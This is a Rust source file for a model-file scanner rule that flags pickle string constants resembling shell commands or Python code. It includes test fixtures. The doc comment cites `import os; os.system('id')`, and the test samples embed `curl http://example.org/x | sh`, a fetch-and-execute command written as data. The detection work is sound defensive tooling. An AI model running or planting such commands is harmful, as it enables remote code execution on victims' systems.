use std::collections::{BTreeSet, HashSet};

use weighhouse_formats::pickle::{PickleFacts, Shape};

use crate::rule::{Context, Rule};

crate::rule! {
    /// A pickle carries a string that looks like a command, a script or an encoded payload.
    ///
    /// # What it detects
    ///
    /// String constants that look like shell commands, Python statements or addresses, where no finding explains who receives
    /// them.
    ///
    /// # Why it matters
    ///
    /// Harmless by itself: models carry prompts and documentation. It helps a reader to see what else a suspicious file holds.
    ///
    /// # Example
    ///
    /// `import os; os.system('id')` as an attribute of a model.
    ///
    /// # What to do
    ///
    /// Look at it if the file has other findings.
    ///
    /// # References
    ///
    /// - <https://docs.python.org/3/library/pickle.html#restricting-globals>
    /// - <https://cwe.mitre.org/data/definitions/502.html>
    /// - <https://atlas.mitre.org/techniques/AML.T0010>
    pub(crate) CodeLikeString {
        id: "WH-PKL-008",
        slug: "code-like-string",
        since: "0.1.0",
        severity: Low,
        confidence: Low,
        formats: [Pickle],
        cwe: [506],
        owasp: ["LLM03"],
        atlas: ["AML.T0010"],
    }
}

impl Rule for CodeLikeString {
    fn pickle(&self, facts: &PickleFacts, cx: &mut Context<'_>) {
        let received = Received::in_facts(facts);
        for literal in facts.literals.iter().filter(|literal| literal.striking) {
            if !received.holds(&literal.text) {
                cx.report("holds a string that looks like code")
                    .at_offset(literal.offset)
                    .key(&literal.text)
                    .evidence(&literal.text)
                    .emit();
            }
        }
    }
}

/// The strings that calls receive: the finding about the call shows them.
#[derive(Default)]
struct Received<'f> {
    whole: HashSet<&'f str>,
    /// Beginnings of longer ones, and the lengths they were cut to.
    beginnings: HashSet<&'f str>,
    cut_at: BTreeSet<usize>,
}

impl<'f> Received<'f> {
    fn in_facts(facts: &'f PickleFacts) -> Self {
        let mut received = Self::default();
        // Without a string to explain, nothing needs to be collected.
        let calls = if facts.literals.is_empty() { [].as_slice() } else { &facts.calls };
        for argument in calls.iter().flat_map(|call| &call.arguments) {
            match argument {
                Shape::Text { head, len } if head.len() as u64 == *len => {
                    received.whole.insert(head);
                }
                Shape::Text { head, .. } if !head.is_empty() => {
                    received.cut_at.insert(head.len());
                    received.beginnings.insert(head);
                }
                _ => {}
            }
        }
        received
    }

    fn holds(&self, text: &str) -> bool {
        let begins = |len: &usize| text.get(..*len).is_some_and(|head| self.beginnings.contains(head));
        self.whole.contains(text) || self.cut_at.iter().any(begins)
    }
}

crate::samples! {
    CodeLikeString,
    bad: {
        "a shell command as a value" => [("model.pkl", b"\x80\x02}X\x01\x00\x00\x00aX\x1e\x00\x00\x00curl http://example.org/x | shs.".to_vec())],
        "a shell command beside calls that receive its beginning, and nothing" => [(
            "model.pkl",
            b"\x80\x02ccollections\nOrderedDict\nX\x00\x00\x00\x00X\x01\x00\x00\x00c\x86R0X\x1e\x00\x00\x00curl http://example.org/x | sh.".to_vec()
        )],
    },
    ok: {
        "bytes as old protocols write them" => [("model.pkl", b"\x80\x02c_codecs\nencode\nX\x08\x00\x00\x00\x01abcd\x02efX\x06\x00\x00\x00latin1\x86R.".to_vec())],
        "a dictionary of numbers" => [("model.pkl", b"\x80\x04}\x94\x8c\x01a\x94K\x01s.".to_vec())],
        "an ordered dictionary" => [("model.pkl", b"\x80\x02ccollections\nOrderedDict\n)R.".to_vec())],
    },
}
